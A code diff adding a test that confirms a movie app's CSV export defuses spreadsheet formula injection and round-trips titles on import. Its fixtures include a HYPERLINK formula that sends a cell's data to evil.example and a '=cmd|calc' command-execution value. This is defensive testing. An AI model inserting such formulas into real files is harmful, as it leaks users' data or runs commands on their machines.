@@ -1,4 +1,5 @@
 import t from 'tap';
+import { CsvScanner } from '../../src/adapters/imports/csv-scanner.ts';
 import { ExportMovies } from '../../src/application/movies/export-movies.ts';
 import { buildAuthApp } from '../support/auth.ts';
 import { buildTestApp, type TestApp } from '../support/http.ts';
@@ -99,6 +100,43 @@ t.test('export → import reproduces the catalog (NDJSON and CSV); re-importing 
     );
     await target.app.close();
   }
+});
+
+const FORMULA_TITLES = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+  '+1+2',
+  '-1 Minute to Midnight',
+  '@SUM(A1:A2)',
+  "'=already guarded",
+  "'quoted but harmless",
+];
+
+t.test('CSV export neutralises cells a spreadsheet would run as formulas; import reads them back', async (t) => {
+  const source = await buildTestApp();
+  t.teardown(() => source.app.close());
+  const movies = FORMULA_TITLES.map((title) => ({ title, director: '=cmd|calc', genres: ['-noir', 'Drama'] }));
+  await importRaw(source.app, JSON.stringify(movies), 'application/json');
+  const file = (await source.app.inject('/movies/export?format=csv')).body;
+  const scanner = new CsvScanner(100_000);
+  const cells = [...scanner.feed(file)].slice(1).map((row) => row.cells.slice(1, 5));
+  t.equal(cells.length, FORMULA_TITLES.length);
+  for (const [title, , director, genres] of cells) {
+    t.notMatch(title, /^[=+\-@\t\r]/, `no title cell starts a formula: ${title}`);
+    t.equal(director, "'=cmd|calc");
+    t.equal(genres, "'-noir|Drama");
+  }
+  t.ok(file.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1`), 'the text itself is kept after the apostrophe');
+  const target = await buildTestApp();
+  t.teardown(() => target.app.close());
+  t.match((await importRaw(target.app, file, 'text/csv')).json().import.report, { inserted: FORMULA_TITLES.length, failed: 0 });
+  const copy = (await target.app.inject('/movies?limit=100&sort=id.asc')).json().movies;
+  t.same(
+    copy.map((m: { title: string }) => m.title),
+    FORMULA_TITLES,
+    'every title survives export → import',
+  );
+  t.same(copy[0].director, '=cmd|calc');
+  t.same(copy[0].genres, ['-noir', 'Drama']);
 });
 
 t.test('ExportMovies reads keyset pages: every movie once, whatever the page size', async (t) => {
